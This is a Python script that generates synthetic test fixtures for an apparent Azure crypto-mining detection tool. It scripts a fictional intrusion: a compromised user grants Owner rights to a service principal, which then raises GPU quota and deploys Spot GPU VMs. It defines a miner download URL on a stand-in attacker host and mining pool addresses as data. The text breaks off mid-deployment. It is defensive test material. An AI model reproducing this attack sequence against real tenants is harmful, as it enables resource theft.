#!/usr/bin/env python3
"""Generates minetrace's synthetic test fixtures (python3 standard library only).

Writes
  fixtures/scenarios/intrusion/  one crypto-mining incident rendered in every input shape, plus
                                 expected.json (the ground truth the tests assert);
  fixtures/ingest/               small parser edge cases, each with a <name>.expect.json sidecar.

The output is a pure function of this file: every id, time and token comes from a fixed seed
through SHA-256, so two runs give byte-identical files. Never hand-edit the output; change this
script and re-run it:  python3 scripts/gen_fixtures.py
All GUIDs are fictional; IPs are documentation ranges (RFC 5737) plus one foreign range.
"""

import base64
import csv
import datetime as dt
import hashlib
import io
import json
import re
import shutil
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "fixtures"
SCENARIO_DIR = FIXTURES / "scenarios" / "intrusion"
INGEST_DIR = FIXTURES / "ingest"
SEED = "minetrace/fixtures/intrusion-2026-10"
UTC = dt.timezone.utc

# --------------------------------------------------------------------------------------------
# Deterministic primitives
# --------------------------------------------------------------------------------------------


def _digest(*parts):
    return hashlib.sha256("\x1f".join((SEED,) + parts).encode()).digest()


def gid(*parts):
    """A version-4-shaped GUID derived from the seed and `parts`."""
    d = _digest("guid", *parts).hex()
    return f"{d[0:8]}-{d[8:12]}-4{d[13:16]}-{'89ab'[int(d[16], 16) % 4]}{d[17:20]}-{d[20:32]}"


def hint(lo, hi, *parts):
    """A deterministic integer in [lo, hi]."""
    return lo + int.from_bytes(_digest("int", *parts)[:8], "big") % (hi - lo + 1)


def htext(n, alphabet, *parts):
    out, i = [], 0
    while len(out) < n:
        for b in _digest("text", str(i), *parts):
            out.append(alphabet[b % len(alphabet)])
        i += 1
    return "".join(out[:n])


B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
B64STD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
HEXU = "0123456789ABCDEF"


def cjson(obj):
    """Compact JSON as ARM writes it."""
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# Time helpers (all scenario times have millisecond precision so every shape, including the
# portal CSV with its 3 fraction digits, states the same instant)
# --------------------------------------------------------------------------------------------


def at(text):
    return dt.datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=UTC)


def plus_ms(t, n):
    return t + dt.timedelta(milliseconds=n)


def iso7(t):  # 2026-10-12T08:03:11.1230000Z (REST, exports)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"


def iso3(t):  # 2026-10-12T08:03:11.123Z (Log Analytics query API)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def rfc_us(t):  # the normalized form used in expectations
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}Z"


def us_locale(t):  # portal CSV: 10/12/2026, 8:03:11.123 AM
    h12 = t.hour % 12 or 12
    ampm = "AM" if t.hour < 12 else "PM"
    return f"{t.month}/{t.day}/{t.year}, {h12}:{t.minute:02d}:{t.second:02d}.{t.microsecond // 1000:03d} {ampm}"


def epoch(t):
    return int(t.timestamp())


def ticks(t):
    return (t - dt.datetime(1, 1, 1, tzinfo=UTC)) // dt.timedelta(microseconds=1) * 10


# --------------------------------------------------------------------------------------------
# The cast
# --------------------------------------------------------------------------------------------

TENANT = gid("tenant", "fabrikam")
PARTNER = gid("tenant", "northwind-csp")
WORKSPACE = gid("log-analytics-workspace")
S1 = gid("subscription", "s1-production")
S2 = gid("subscription", "s2-devtest")
CUSTOMER_NAME = "Fabrikam Robotics Ltd"
CUSTOMER_DOMAIN = "fabrikamrobotics.onmicrosoft.com"
PARTNER_DOMAIN = "northwindcsp.onmicrosoft.com"
MG = "FABRIKAM-ROOT"

AZURE_PORTAL_APP = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"  # well-known public client ids
AZURE_CLI_APP = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
CONTRIBUTOR = "b24988ac-6180-42a0-ab88-20f7382dd24c"
ROLE_NAMES = {OWNER: "Owner", CONTRIBUTOR: "Contributor"}

IP_ATTACKER_USER = "185.220.101.47"  # the one foreign range
IP_ATTACKER_SP = "198.51.100.23"
IP_DATASCI = "203.0.113.25"
IP_DEVOPS = "192.0.2.44"
MINER_HOST = "198.51.100.23"

RA_P = gid("role-assignment", "owner-to-sp")  # the role assignment the compromised user creates


class Who:
    """One principal: a user (UPN, delegated token) or a service principal (app-only token)."""

    def __init__(self, key, kind, *, oid, appid, appidacr, ip, role_def, ra_scope, ra_id,
                 upn=None, given=None, surname=None, amr=None):
        self.key, self.kind, self.oid, self.appid, self.appidacr = key, kind, oid, appid, appidacr
        self.ip, self.role_def, self.ra_scope, self.ra_id = ip, role_def, ra_scope, ra_id
        self.upn, self.given, self.surname, self.amr = upn, given, surname, amr

    @property
    def caller(self):  # the `caller` field: UPN for users, the app id GUID for service principals
        return self.upn if self.kind == "user" else self.appid

    def claims(self, t):
        # One token per ~55-minute window: iat/nbf/exp and uti are stable inside a window, so one
        # stolen token ties many events together.
        window = 3300
        off = hint(0, window - 1, "tok-off", self.key)
        k = (epoch(t) - off) // window
        iat = k * window + off - hint(30, 400, "tok-skew", self.key, str(k))
        exp = iat + window + hint(600, 1500, "tok-life", self.key, str(k))
        uti = htext(22, B64URL, "uti", self.key, str(k))
        aio = htext(56, B64STD, "aio", self.key, str(k)) + "=="
        rh = "0." + htext(42, B64URL, "rh", self.key) + "."
        iss = f"https://sts.windows.net/{TENANT}/"
        c = {"aud": "https://management.core.windows.net/", "iss": iss,
             "iat": str(iat), "nbf": str(iat), "exp": str(exp)}
        if self.kind == "user":
            c["http://schemas.microsoft.com/claims/authnclassreference"] = "1"
            c["aio"] = aio
            c["http://schemas.microsoft.com/claims/authnmethodsreferences"] = self.amr
            c["appid"] = self.appid
            c["appidacr"] = self.appidacr
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname"] = self.surname
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname"] = self.given
            c["idtyp"] = "user"
            c["ipaddr"] = self.ip
            c["name"] = f"{self.given} {self.surname}"
            c["http://schemas.microsoft.com/identity/claims/objectidentifier"] = self.oid
            c["puid"] = htext(16, HEXU, "puid", self.key)
            c["rh"] = rh
            c["http://schemas.microsoft.com/identity/claims/scope"] = "user_impersonation"
            c["sid"] = gid("sid", self.key, str(k))
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier"] = htext(
                43, B64URL, "nameid", self.key)
            c["http://schemas.microsoft.com/identity/claims/tenantid"] = TENANT
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name"] = self.upn
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"] = self.upn
            c["uti"] = uti
            c["ver"] = "1.0"
            c["xms_tcdt"] = "1598963312"
        else:
            c["aio"] = aio
            c["appid"] = self.appid
            c["appidacr"] = self.appidacr
            c["http://schemas.microsoft.com/identity/claims/identityprovider"] = iss
            c["idtyp"] = "app"
            c["ipaddr"] = self.ip
            c["http://schemas.microsoft.com/identity/claims/objectidentifier"] = self.oid
            c["rh"] = rh
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier"] = self.oid
            c["http://schemas.microsoft.com/identity/claims/tenantid"] = TENANT
            c["uti"] = uti
            c["ver"] = "1.0"
        return c

    def evidence(self):
        return {"role": ROLE_NAMES[self.role_def], "roleAssignmentScope": self.ra_scope,
                "roleAssignmentId": self.ra_id.replace("-", ""),
                "roleDefinitionId": self.role_def.replace("-", ""),
                "principalId": self.oid.replace("-", ""),
                "principalType": "User" if self.kind == "user" else "ServicePrincipal"}

    def expected(self):
        return {"name": self.caller, "type": "user" if self.kind == "user" else "service_principal",
                "object_id": self.oid, "app_id": self.appid, "tenant_id": TENANT, "ip": self.ip,
                "mfa": None if self.kind != "user" else ("mfa" in self.amr.split(","))}


U_COMPROMISED = Who("u-jonas", "user", upn=f"jonas.keller@{CUSTOMER_DOMAIN}", given="Jonas",
                    surname="Keller", oid=gid("oid", "jonas"), appid=AZURE_CLI_APP, appidacr="0",
                    amr="pwd", ip=IP_ATTACKER_USER, role_def=OWNER, ra_scope=f"/subscriptions/{S1}",
                    ra_id=gid("role-assignment", "jonas-owner"))
SP_ATTACKER = Who("sp-backup", "sp", oid=gid("oid", "sp-backup-automation"),
                  appid=gid("appid", "fab-backup-automation"), appidacr="1", ip=IP_ATTACKER_SP,
                  role_def=OWNER, ra_scope=f"/subscriptions/{S1}", ra_id=RA_P)
U_DATASCI = Who("u-priya", "user", upn=f"priya.raman@{CUSTOMER_DOMAIN}", given="Priya",
                surname="Raman", oid=gid("oid", "priya"), appid=AZURE_PORTAL_APP, appidacr="2",
                amr="pwd,mfa", ip=IP_DATASCI, role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
                ra_id=gid("role-assignment", "priya-contrib"))
U_DEVOPS = Who("u-marco", "user", upn=f"marco.bianchi@{CUSTOMER_DOMAIN}", given="Marco",
               surname="Bianchi", oid=gid("oid", "marco"), appid=AZURE_CLI_APP, appidacr="0",
               amr="pwd,rsa,mfa", ip=IP_DEVOPS, role_def=CONTRIBUTOR,
               ra_scope=f"/subscriptions/{S2}", ra_id=gid("role-assignment", "marco-contrib"))

WALLET = "4" + htext(1, "AB0123456789", "wallet0") + htext(93, BASE58, "wallet")
POOL_A = "stratum+tcp://gulf.moneroocean.stream:10128"
POOL_B = "stratum+tcp://xmr-eu1.nanopool.org:10300"
MINER_TGZ = f"http://{MINER_HOST}/k/xmrig-6.21.0-linux-static-x64.tar.gz"

# --------------------------------------------------------------------------------------------
# ARM resource ids and friendly names
# --------------------------------------------------------------------------------------------

FRIENDLY = {
    "microsoft.authorization/roleassignments/write": "Create role assignment",
    "microsoft.batch/register/action": "Register Subscription for Microsoft.Batch",
    "microsoft.containerinstance/register/action":
        "Register Subscription for Microsoft.ContainerInstance",
    "microsoft.resources/subscriptions/resourcegroups/write": "Create Resource Group",
    "microsoft.quota/quotas/write": "Create or update quota request",
    "microsoft.capacity/resourceproviders/locations/servicelimits/write":
        "Create service limit request",
    "microsoft.compute/virtualmachines/write": "Create or Update Virtual Machine",
    "microsoft.compute/virtualmachines/delete": "Delete Virtual Machine",
    "microsoft.resources/deployments/write": "Create Deployment",
    "microsoft.network/virtualnetworks/write": "Create or Update Virtual Network",
    "microsoft.network/networkinterfaces/write": "Create or Update Network Interface",
    "microsoft.compute/disks/write": "Create or Update Disk",
    "microsoft.compute/virtualmachines/extensions/write":
        "Create or Update Virtual Machine Extension",
    "microsoft.compute/virtualmachinescalesets/write": "Create or Update Virtual Machine Scale Set",
    "microsoft.compute/virtualmachinescalesets/delete": "Delete Virtual Machine Scale Set",
    "microsoft.batch/batchaccounts/write": "Create or Update Batch Account",
    "microsoft.batch/batchaccounts/pools/write": "Create or Update Pool",
    "microsoft.batch/batchaccounts/pools/delete": "Delete Pool",
    "microsoft.containerinstance/containergroups/write": "Create or Update Container Group",
    "microsoft.containerinstance/containergroups/delete": "Delete Container Group",
    "microsoft.storage/storageaccounts/write": "Create/Update Storage Account",
    "microsoft.web/serverfarms/write": "Create or Update App Service Plan",
}

HTTP_CODES = {"OK": 200, "Created": 201, "Accepted": 202, "NoContent": 204, "Conflict": 409}


def rid_info(rid):
    """(subscription lower, resource group as written, namespace, resource type, name)."""
    segs = rid.strip("/").split("/")
    low = [s.lower() for s in segs]
    sub = segs[1].lower() if len(segs) > 1 and low[0] == "subscriptions" else ""
    rg = ""
    if "resourcegroups" in low:
        i = low.index("resourcegroups")
        rg = segs[i + 1] if i + 1 < len(segs) else ""
    if "providers" in low:
        i = len(low) - 1 - low[::-1].index("providers")
        ns = segs[i + 1]
        rest = segs[i + 2:]
        rtype = "/".join([ns] + rest[0::2])
    else:
        ns = "Microsoft.Resources"
        rtype = "Microsoft.Resources/subscriptions/resourceGroups" if rg else \
            "Microsoft.Resources/subscriptions"
    return sub, rg, ns, rtype, segs[-1]


def later_phase_rid(rid):
    """ARM echoes ids in later phases with `resourcegroups` lower-cased (seen in real logs)."""
    return re.sub(r"/resourceGroups/", "/resourcegroups/", rid)


def rg_id(sub, rg):
    return f"/subscriptions/{sub}/resourceGroups/{rg}"


def res_id(sub, rg, ns_type_name):
    return f"/subscriptions/{sub}/resourceGroups/{rg}/providers/{ns_type_name}"


# --------------------------------------------------------------------------------------------
# Canonical events: one ARM operation = several phase records (Start, Accept, Success/Failure)
# --------------------------------------------------------------------------------------------

EVENTS = []  # every phase record of every operation, in creation order
OPS = {}  # key -> operation summary (times, correlation, phases)


def operation(key, who, rid, opname, start, phases, *, corr=None, req=None, resp=None,
              status_msg=None, method="PUT"):
    """Records one ARM operation. `phases` = [(resultType, delay_ms_from_start, statusCode)].

    The request body rides on the Start record; the response body on the Accept record (or on
    the final record of a synchronous call); statusMessage on the Failure record."""
    t0 = at(start) if isinstance(start, str) else start
    corr = corr or gid("correlation", key)
    has_accept = any(p == "Accept" for p, _, _ in phases)
    evs = []
    for i, (phase, delay, code) in enumerate(phases):
        t = plus_ms(t0, delay)
        ev = {
            "key": key, "idx": i, "time": t, "who": who, "rid": rid, "op": opname,
            "phase": phase, "code": code or "", "corr": corr, "opid": gid("operation", key),
            "crid": gid("client-request", key), "edid": gid("event-data", key, str(i)),
            "srid": gid("service-request", key, str(i)) if phase != "Start" else None,
            "method": method, "duration": delay,
            "sub_time": plus_ms(t, hint(2500, 21000, "lag", key, str(i))),
            "req": req if phase == "Start" else None,
            "resp": resp if (phase == "Accept" or (phase == "Success" and not has_accept)) else None,
            "status_msg": status_msg if phase == "Failure" else None,
        }
        EVENTS.append(ev)
        evs.append(ev)
    OPS[key] = {"key": key, "who": who, "rid": rid, "op": opname, "start": evs[0]["time"],
                "end": evs[-1]["time"], "final": evs[-1]["phase"], "corr": corr,
                "final_code": evs[-1]["code"], "status_msg": status_msg, "req": req,
                "events": evs}
    return OPS[key]


ASYNC_CREATE = lambda accept_ms, done_ms: [("Start", 0, None), ("Accept", accept_ms, "Created"),  # noqa: E731
                                           ("Success", done_ms, "OK")]
SYNC_CREATE = lambda done_ms: [("Start", 0, None), ("Success", done_ms, "Created")]  # noqa: E731
SYNC_OK = lambda done_ms: [("Start", 0, None), ("Success", done_ms, "OK")]  # noqa: E731
ASYNC_ACCEPTED = lambda accept_ms, done_ms, final="OK": [  # noqa: E731
    ("Start", 0, None), ("Accept", accept_ms, "Accepted"), ("Success", done_ms, final)]

# Expected-resource annotations, filled while the story is written.
RESOURCES = {}  # rid lower -> annotation
PREPARATION = []  # RP registrations and quota requests


def creates(op, severity, *, deployment=None, parent=None, indicators=(), details=None):
    RESOURCES[op["rid"].lower()] = {"op": op, "severity": severity, "deployment": deployment,
                                    "parent": parent, "indicators": list(indicators),
                                    "details": details or {}, "delete": None}


def deletes(op):
    RESOURCES[op["rid"].lower()]["delete"] = op


# --------------------------------------------------------------------------------------------
# Request / response bodies
# --------------------------------------------------------------------------------------------

IMG_DSVM = {"publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest"}
IMG_UBUNTU = {"publisher": "Canonical", "offer": "ubuntu-24_04-lts", "sku": "server",
              "version": "latest"}


def ssh_key(who):
    return "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + htext(43, B64STD, "ssh", who) + " " + who


def vm_request(loc, size, nic, disk=None, *, image, priority=None, admin="azureuser"):
    storage = {"imageReference": image,
               "osDisk": {"createOption": "FromImage", "deleteOption": "Delete",
                          "managedDisk": {"storageAccountType": "Premium_LRS"}}}
    if disk:
        storage["dataDisks"] = [{"lun": 0, "createOption": "Attach", "managedDisk": {"id": disk}}]
    name = nic.split("/")[-1].removesuffix("-nic")
    props = {"hardwareProfile": {"vmSize": size}, "storageProfile": storage,
             "osProfile": {"computerName": name, "adminUsername": admin,
                           "linuxConfiguration": {"disablePasswordAuthentication": True,
                                                  "ssh": {"publicKeys": [{
                                                      "path": f"/home/{admin}/.ssh/authorized_keys",
                                                      "keyData": ssh_key(name)}]}}},
             "networkProfile": {"networkInterfaces": [{"id": nic,
                                                       "properties": {"deleteOption": "Delete"}}]}}
    if priority == "Spot":
        props.update({"priority": "Spot", "evictionPolicy": "Delete",
                      "billingProfile": {"maxPrice": -1}})
    elif priority:
        props["priority"] = priority
    return {"location": loc, "properties": props}


def vm_response(rid, req, created):
    props = json.loads(json.dumps(req["properties"]))
    props = {"vmId": gid("vmid", rid), **props}
    props["osProfile"].update({"secrets": [], "allowExtensionOperations": True,
                               "requireGuestProvisionSignal": True})
    if "billingProfile" in props:
        props["billingProfile"] = {"maxPrice": -1.0}  # the RP echoes a double
    props["provisioningState"] = "Creating"
    props["timeCreated"] = created.strftime("%Y-%m-%dT%H:%M:%S.") + f"{created.microsecond:06d}0+00:00"
    return {"name": rid.split("/")[-1], "id": rid, "type": "Microsoft.Compute/virtualMachines",
            "location": req["location"], "properties": props}


def ext_request(loc, publisher, etype, version, settings):
    return {"location": loc, "properties": {"publisher": publisher, "type": etype,
                                            "typeHandlerVersion": version,
                                            "autoUpgradeMinorVersion": True, "settings": settings}}


def ext_response(rid, req):
    p = req["properties"]
    return {"name": rid.split("/")[-1], "id": rid,
            "type": "Microsoft.Compute/virtualMachines/extensions", "location": req["location"],
            "properties": {"autoUpgradeMinorVersion": True, "provisioningState": "Creating",
                           "publisher": p["publisher"], "type": p["type"],
                           "typeHandlerVersion": p["typeHandlerVersion"], "settings": p["settings"]}}


def vnet_request(loc, prefix):
    return {"location": loc, "properties": {
        "addressSpace": {"addressPrefixes": [f"{prefix}.0.0/16"]},
        "subnets": [{"name": "default", "properties": {"addressPrefix": f"{prefix}.0.0/24"}}]}}


def nic_request(loc, subnet):
    return {"location": loc, "properties": {"ipConfigurations": [{
        "name": "ipconfig1", "properties": {"subnet": {"id": subnet},
                                            "privateIPAllocationMethod": "Dynamic"}}]}}


def deployment_response(rid, corr, t, params, providers):
    return {"id": rid, "name": rid.split("/")[-1], "type": "Microsoft.Resources/deployments",
            "properties": {"templateHash": str(hint(10**18, 10**19 - 1, "tpl", rid)),
                           "parameters": params, "mode": "Incremental",
                           "provisioningState": "Accepted", "timestamp": iso7(t),
                           "duration": "PT0.4127011S", "correlationId": corr,
                           "providers": providers, "dependencies": []}}


# --------------------------------------------------------------------------------------------
# The story
# --------------------------------------------------------------------------------------------


def write_story():
    # ---- S1, legitimate: a long-standing data scientist (MFA) builds one GPU VM via the portal.
    rg_ds = rg_id(S1, "rg-ds-research")
    o = operation("ds-rg", U_DATASCI, rg_ds, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-09-09T10:14:03.512", SYNC_CREATE(1234),
                  req={"location": "eastus", "tags": {"owner": "priya.raman", "cost-center": "R&D-42"}})
    creates(o, "low", details={"location": "eastus"})

    dep_name = "CreateVm-microsoft-dsvm.ubuntu-hpc2204-20260909102139"
    dep_ds = res_id(S1, "rg-ds-research", f"Microsoft.Resources/deployments/{dep_name}")
    corr_ds = gid("correlation", "ds-deployment")
    t = at("2026-09-09T10:21:47.905")
    dep = operation("ds-dep", U_DATASCI, dep_ds, "Microsoft.Resources/deployments/write", t,
                    [("Start", 0, None), ("Accept", 604, "Created"), ("Success", 252_811, "OK")],
                    corr=corr_ds,
                    resp=deployment_response(dep_ds, corr_ds, plus_ms(t, 590), {
                        "virtualMachineName": {"type": "String", "value": "ds-gpu-01"},
                        "virtualMachineSize": {"type": "String", "value": "Standard_NC6s_v3"},
                        "location": {"type": "String", "value": "eastus"}},
                        [{"namespace": "Microsoft.Network", "resourceTypes": [
                            {"resourceType": "virtualNetworks", "locations": ["eastus"]},
                            {"resourceType": "networkInterfaces", "locations": ["eastus"]}]},
                         {"namespace": "Microsoft.Compute", "resourceTypes": [
                             {"resourceType": "virtualMachines", "locations": ["eastus"]}]}]))
    creates(dep, "low", details={"location": "eastus"})
    dep_lower = dep_ds.lower()
    vnet = res_id(S1, "rg-ds-research", "Microsoft.Network/virtualNetworks/vnet-ds-research")
    o = operation("ds-vnet", U_DATASCI, vnet, "Microsoft.Network/virtualNetworks/write",
                  plus_ms(t, 4213), SYNC_CREATE(3107), corr=corr_ds,
                  req=vnet_request("eastus", "10.20"))
    creates(o, "low", deployment=dep_lower, details={"location": "eastus"})
    nic = res_id(S1, "rg-ds-research", "Microsoft.Network/networkInterfaces/ds-gpu-01-nic")
    o = operation("ds-nic", U_DATASCI, nic, "Microsoft.Network/networkInterfaces/write",
                  plus_ms(t, 10435), SYNC_CREATE(1188), corr=corr_ds,
                  req=nic_request("eastus", vnet + "/subnets/default"))
    creates(o, "low", deployment=dep_lower, details={"location": "eastus"})
    vm = res_id(S1, "rg-ds-research", "Microsoft.Compute/virtualMachines/ds-gpu-01")
    req = vm_request("eastus", "Standard_NC6s_v3", nic, image=IMG_DSVM, priority="Regular",
                     admin="priya")
    o = operation("ds-vm", U_DATASCI, vm, "Microsoft.Compute/virtualMachines/write",
                  plus_ms(t, 15866), ASYNC_CREATE(1902, 238_140), corr=corr_ds, req=req,
                  resp=vm_response(vm, req, plus_ms(t, 17500)))
    creates(o, "low", deployment=dep_lower, indicators=["gpu-sku"],
            details={"location": "eastus", "vm_size": "Standard_NC6s_v3", "priority": "Regular"})
    ext = vm + "/extensions/NvidiaGpuDriverLinux"
    req = ext_request("eastus", "Microsoft.HpcCompute", "NvidiaGpuDriverLinux", "1.9", {})
    o = operation("ds-ext", U_DATASCI, ext, "Microsoft.Compute/virtualMachines/extensions/write",
                  "2026-09-09T10:41:15.226", ASYNC_CREATE(1544, 371_208), req=req,
                  resp=ext_response(ext, req))
    creates(o, "low", parent=vm.lower(),
            details={"location": "eastus", "publisher": "Microsoft.HpcCompute",
                     "extension_type": "NvidiaGpuDriverLinux"})

    # ---- S2, legitimate: ordinary CPU work with the Azure CLI (MFA).
    rg_web = rg_id(S2, "rg-web-dev")
    o = operation("web-rg", U_DEVOPS, rg_web, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-09-14T13:05:11.004", SYNC_CREATE(987),
                  req={"location": "westeurope", "tags": {"env": "dev"}})
    creates(o, "low", details={"location": "westeurope"})
    st = res_id(S2, "rg-web-dev", "Microsoft.Storage/storageAccounts/stwebdev01")
    o = operation("web-st", U_DEVOPS, st, "Microsoft.Storage/storageAccounts/write",
                  "2026-09-14T13:06:40.250", ASYNC_ACCEPTED(912, 22_430),
                  req={"sku": {"name": "Standard_LRS"}, "kind": "StorageV2",
                       "location": "westeurope",
                       "properties": {"minimumTlsVersion": "TLS1_2", "allowBlobPublicAccess": False,
                                      "supportsHttpsTrafficOnly": True}})
    creates(o, "low", details={"location": "westeurope"})
    asp = res_id(S2, "rg-web-dev", "Microsoft.Web/serverfarms/asp-web-dev")
    o = operation("web-asp", U_DEVOPS, asp, "Microsoft.Web/serverfarms/write",
                  "2026-09-14T13:09:02.731", SYNC_OK(9_120),
                  req={"location": "westeurope", "sku": {"name": "P1v3", "tier": "PremiumV3",
                                                         "capacity": 1},
                       "kind": "linux", "properties": {"reserved": True}})
    creates(o, "low", details={"location": "westeurope"})
    subnet = "/subscriptions/%s/resourceGroups/rg-network/providers/Microsoft.Network/" \
             "virtualNetworks/vnet-shared-weu/subnets/build" % S2
    for n, (tn, tv) in enumerate([("2026-09-14T13:13:01.442", "2026-09-14T13:13:20.890"),
                                  ("2026-09-14T13:14:05.367", "2026-09-14T13:14:25.009")], 1):
        nic = res_id(S2, "rg-web-dev", f"Microsoft.Network/networkInterfaces/vm-build-0{n}-nic")
        o = operation(f"web-nic{n}", U_DEVOPS, nic, "Microsoft.Network/networkInterfaces/write", tn,
                      SYNC_CREATE(1_406), req=nic_request("westeurope", subnet))
        creates(o, "low", details={"location": "westeurope"})
        vm = res_id(S2, "rg-web-dev", f"Microsoft.Compute/virtualMachines/vm-build-0{n}")
        req = vm_request("westeurope", "Standard_D4s_v5", nic, image=IMG_UBUNTU, admin="marco")
        o = operation(f"web-vm{n}", U_DEVOPS, vm, "Microsoft.Compute/virtualMachines/write", tv,
                      ASYNC_CREATE(2_210 + n * 97, 61_300 + n * 4_411), req=req,
                      resp=vm_response(vm, req, plus_ms(at(tv), 2100)))
        creates(o, "low", details={"location": "westeurope", "vm_size": "Standard_D4s_v5",
                                   "priority": None})

    # ---- S1, the incident. 07:52 the compromised user (password only, foreign IP) makes the
    # service principal Owner of the subscription.
    ra = f"/subscriptions/{S1}/providers/Microsoft.Authorization/roleAssignments/{RA_P}"
    ra_op = operation("ra-owner", U_COMPROMISED, ra, "Microsoft.Authorization/roleAssignments/write",
                      "2026-10-12T07:52:10.412", SYNC_CREATE(1_540),
                      req={"Id": RA_P, "Properties": {
                          "PrincipalId": SP_ATTACKER.oid, "PrincipalType": "ServicePrincipal",
                          "RoleDefinitionId": f"/subscriptions/{S1}/providers/"
                                              f"Microsoft.Authorization/roleDefinitions/{OWNER}",
                          "Scope": f"/subscriptions/{S1}", "Condition": None,
                          "ConditionVersion": None}})
    creates(ra_op, "high", indicators=["privileged-role-grant", "no-mfa"],
            details={"principal_id": SP_ATTACKER.oid, "principal_type": "ServicePrincipal",
                     "role_definition_id": OWNER, "role": "Owner", "scope": f"/subscriptions/{S1}"})
    P = SP_ATTACKER

    # 08:03 preparation: resource providers, staging group, quota.
    for key, ns, t0 in [("reg-batch", "Microsoft.Batch", "2026-10-12T08:03:11.123"),
                        ("reg-aci", "Microsoft.ContainerInstance", "2026-10-12T08:03:40.871")]:
        o = operation(key, P, f"/subscriptions/{S1}/providers/{ns}", f"{ns}/register/action", t0,
                      SYNC_OK(2_317 if key == "reg-batch" else 1_905), method="POST")
        PREPARATION.append(o)
    rg_ml = rg_id(S1, "rg-ml-train")
    o = operation("ml-rg", P, rg_ml, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-10-12T08:05:02.330", SYNC_CREATE(1_102),
                  req={"location": "eastus", "tags": {"project": "ml-training"}})
    creates(o, "medium", details={"location": "eastus"})
    quota = [
        ("q-eus", f"/subscriptions/{S1}/providers/Microsoft.Compute/locations/eastus/providers/"
                  f"Microsoft.Quota/quotas/standardNCADSA100v4Family", "Microsoft.Quota/quotas/write",
         "2026-10-12T08:06:15.602",
         {"properties": {"limit": {"limitObjectType": "LimitValue", "value": 96},
                         "name": {"value": "standardNCADSA100v4Family"},
                         "resourceType": "dedicated"}}),
        ("q-weu", f"/subscriptions/{S1}/providers/Microsoft.Capacity/resourceProviders/"
                  f"Microsoft.Compute/locations/westeurope/serviceLimits/standardNCSv3Family",
         "Microsoft.Capacity/resourceProviders/locations/serviceLimits/write",
         "2026-10-12T08:07:30.019",
         {"properties": {"limit": 64, "name": {"value": "standardNCSv3Family"},
                         "resourceType": "dedicated"}}),
        ("q-sea", f"/subscriptions/{S1}/providers/Microsoft.Compute/locations/southeastasia/"
                  f"providers/Microsoft.Quota/quotas/lowPriorityCores", "Microsoft.Quota/quotas/write",
         "2026-10-12T08:08:44.480",
         {"properties": {"limit": {"limitObjectType": "LimitValue", "value": 200},
                         "name": {"value": "lowPriorityCores"}, "resourceType": "lowPriority"}}),
    ]
    for key, rid, opname, t0, body in quota:
        o = operation(key, P, rid, opname, t0,
                      ASYNC_ACCEPTED(811 + hint(0, 300, key), 41_337 + hint(0, 9000, key)), req=body)
        PREPARATION.append(o)

    # 08:12 one failed attempt: the biggest GPU size is not available.
    nic0 = res_id(S1, "rg-ml-train", "Microsoft.Network/networkInterfaces/gpu-train-eus-00-nic")
    vm0 = res_id(S1, "rg-ml-train", "Microsoft.Compute/virtualMachines/gpu-train-eus-00")
    o = operation("vm-fail", P, vm0, "Microsoft.Compute/virtualMachines/write",
                  "2026-10-12T08:12:20.745", [("Start", 0, None), ("Failure", 3_602, "Conflict")],
                  req=vm_request("eastus", "Standard_ND96asr_v4", nic0, image=IMG_DSVM,
                                 priority="Spot"),
                  status_msg={"status": "Failed", "error": {
                      "code": "SkuNotAvailable",
                      "message": "The requested VM size for resource 'Following SKUs have failed "
                                 "for Capacity Restrictions: Standard_ND96asr_v4' is currently not "
                                 "available in location 'eastus'. Please try another size or deploy "
                                 "to a different location or different zone. See "
                                 "https://aka.ms/azureskunotavailable for details."}})
    creates(o, "medium", indicators=["gpu-sku", "spot-priority"],
            details={"location": "eastus", "vm_size": "Standard_ND96asr_v4", "priority": "Spot"})

    # 08:20 one deployment creates Spot GPU VMs in three regions.
    regions = [("eus", "eastus", "Standard_NC24ads_A100_v4", "10.40"),
               ("weu", "westeurope", "Standard_NC6s_v3", "10.41"),
               ("sea", "southeastasia", "Standard_NC24ads_A100_v4", "10.42")]
    dep_name = "gpu-train-multiregion-20261012"
    dep_ml = res_id(S1, "rg-ml-train", f"Microsoft.Resources/deployments/{dep_name}")
    corr_ml = gid("correlation", "ml-deployment")
    t = at("2026-10-12T08:20:05.218")
    dep = operation("ml-dep", P, dep_ml, "Microsoft.Resources/deployments/write", t,
                    [("Start", 0, None), ("Accept", 713, "Created"), ("Success", 702_184, "OK")],
                    corr=corr_ml,
                    resp=deployment_response(dep_ml, corr_ml, plus_ms(t, 700), {
                        "vmSize": {"type": "String", "value": "Standard_NC24ads_A100_v4"},
                        "vmSizeWestEurope": {"type": "String", "value": "Standard_NC6s_v3"},
                        "priority": {"type": "String", "value": "Spot"},
                        "regions": {"type": "Array", "value": [r[1] for r in regions]},
                        "instancesPerRegion": {"type": "Int", "value": 1}},
